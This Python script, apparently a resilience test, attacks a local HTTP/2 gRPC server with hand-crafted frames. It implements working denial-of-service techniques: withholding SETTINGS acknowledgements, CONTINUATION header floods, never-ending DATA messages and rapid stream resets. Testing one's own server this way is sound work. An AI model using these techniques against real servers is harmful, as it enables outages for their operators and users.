"""http2_attack.py ATTACK PORT TLS_DIR CERTIFICATE METHOD SECONDS: attacks a server of this machine with hand-written
HTTP/2 frames and a valid certificate, and prints what it managed to send as one line of JSON.

  unacknowledged  streams that stay open, on connections that never acknowledge SETTINGS
  headers         streams with 1 MB of headers each, also without an acknowledgement
  endless         messages of 63 MiB whose last bytes never come
  reset           streams that are reset as soon as they are open

A connection that the server ends is replaced by a new one, until the time is over."""

import json
import select
import socket
import ssl
import struct
import sys
import threading
import time

DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_HEADERS, ACK = 4, 1
FRAME = 16384
MESSAGE = 63 << 20
# How many connections an attack holds, and how many streams each of them opens at most.
SHAPES = {"unacknowledged": (4, 15000), "headers": (4, 100), "endless": (4, 16), "reset": (4, 1 << 29)}


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def number(value, prefix):
    """Returns a number as HPACK writes it, with a prefix of so many bits."""
    limit = (1 << prefix) - 1
    if value < limit:
        return bytes([value])
    out, value = [limit], value - limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes(out + [value])


def header(name, value):
    """Returns a literal header that no table keeps."""
    return b"\0" + number(len(name), 7) + name + number(len(value), 7) + value


class Connection:
    """One connection; used by one thread."""

    def __init__(self, port, context):
        plain = socket.create_connection(("127.0.0.1", port), timeout=5)
        self.socket = context.wrap_socket(plain, server_hostname="127.0.0.1")
        self.socket.settimeout(5)
        self.received = b""
        self.window = 65535
        self.windows = {}
        self.initial = 65535
        self.acknowledges = False
        # No flow control of ours ever stops the server.
        self.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0) +
                  frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", (1 << 31) - 1 - 65535)))

    def send(self, content):
        self.socket.sendall(content)

    def take(self, wait):
        """Reads the frames that have come; raises OSError at the end of the connection."""
        if not self.socket.pending() and not select.select([self.socket], [], [], wait)[0]:
            return
        content = self.socket.recv(1 << 16)
        if not content:
            raise ConnectionResetError("the server ended the connection")
        self.received += content
        while len(self.received) >= 9:
            size = int.from_bytes(self.received[:3], "big")
            if len(self.received) < 9 + size:
                return
            kind, flags, stream = struct.unpack(">BBI", self.received[3:9])
            payload, self.received = self.received[9:9 + size], self.received[9 + size:]
            if kind == PING and not flags & ACK:
                self.send(frame(PING, ACK, 0, payload))
            elif kind == SETTINGS and not flags & ACK:
                for i in range(0, size, 6):
                    if payload[i:i + 2] == b"\0\4":
                        self.initial = int.from_bytes(payload[i + 2:i + 6], "big")
                if self.acknowledges:
                    self.send(frame(SETTINGS, ACK, 0))
            elif kind == WINDOW_UPDATE and stream:
                self.windows[stream] = self.windows.get(stream, 0) + int.from_bytes(payload, "big")
            elif kind == WINDOW_UPDATE:
                self.window += int.from_bytes(payload, "big")


class Attack:
    """What all threads share."""

    def __init__(self, kind, port, tls, certificate, method, seconds):
        self.kind, self.port, self.end = kind, port, time.monotonic() + seconds
        self.context = ssl.create_default_context(cafile=f"{tls}/ca.crt")
        self.context.check_hostname = False
        self.context.load_cert_chain(f"{tls}/{certificate}.crt", f"{tls}/{certificate}.key")
        self.context.set_alpn_protocols(["h2"])
        self.request = b"".join(header(*pair) for pair in [
            (b":method", b"POST"), (b":scheme", b"https"), (b":path", method.encode()), (b":authority", b"127.0.0.1"),
            (b"te", b"trailers"), (b"content-type", b"application/grpc")])
        self.lock = threading.Lock()
        self.done = {"connections": 0, "streams": 0, "bytes": 0, "ended": 0}

    def add(self, **counts):
        with self.lock:
            for name, count in counts.items():
                self.done[name] += count

    def over(self):
        return time.monotonic() >= self.end

    def run(self):
        while not self.over():
            try:
                connection = Connection(self.port, self.context)
                self.add(connections=1)
                getattr(self, self.kind)(connection, SHAPES[self.kind][1])
                while not self.over():
                    connection.take(0.1)
            except OSError:
                self.add(ended=1)
                time.sleep(0.02)

    def open_streams(self, connection, first, count, after=b""):
        frames = []
        for stream in range(first, first + 2 * count, 2):
            frames.append(frame(HEADERS, END_HEADERS, stream, self.request))
            if after:
                frames.append(frame(RST_STREAM, 0, stream, after))
        content = b"".join(frames)
        connection.send(content)
        self.add(streams=count, bytes=len(content))
        connection.take(0)

    def unacknowledged(self, connection, count):
        for first in range(1, 2 * count, 200):
            if self.over():
                return
            self.open_streams(connection, first, 100)

    def reset(self, connection, count):
        for first in range(1, 2 * count, 200):
            if self.over():
                return
            self.open_streams(connection, first, 100, struct.pack(">I", 8))

    def headers(self, connection, count):
        more = b"".join(header(b"x-%d" % i, b"x" * 8000) for i in range(128))
        parts = [more[i:i + FRAME] for i in range(0, len(more), FRAME)]
        for stream in range(1, 2 * count, 2):
            if self.over():
                return
            frames = [frame(HEADERS, 0, stream, self.request)]
            frames += [frame(CONTINUATION, END_HEADERS if part is parts[-1] else 0, stream, part) for part in parts]
            content = b"".join(frames)
            connection.send(content)
            self.add(streams=1, bytes=len(content))
            connection.take(0)

    def endless(self, connection, count):
        connection.acknowledges = True
        connection.take(1)
        left = {}
        for stream in range(1, 2 * count, 2):
            connection.send(frame(HEADERS, END_HEADERS, stream, self.request) +
                            frame(DATA, 0, stream, b"\0" + struct.pack(">I", MESSAGE)))
            connection.windows[stream] = connection.windows.get(stream, 0) + connection.initial - 5
            connection.window -= 5
            left[stream] = MESSAGE - 1
        self.add(streams=count)
        while left and not self.over():
            idle = True
            for stream in list(left):
                size = min(FRAME, left[stream], connection.windows[stream], connection.window)
                if size <= 0:
                    continue
                connection.send(frame(DATA, 0, stream, bytes(size)))
                connection.windows[stream] -= size
                connection.window -= size
                left[stream] -= size
                self.add(bytes=size)
                idle = False
                if not left[stream]:
                    del left[stream]
            connection.take(0.05 if idle else 0)


def main():
    kind, port, tls, certificate, method, seconds = sys.argv[1:]
    attack = Attack(kind, int(port), tls, certificate, method, float(seconds))
    threads = [threading.Thread(target=attack.run) for _ in range(SHAPES[kind][0])]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(json.dumps(attack.done))


if __name__ == "__main__":
    main()
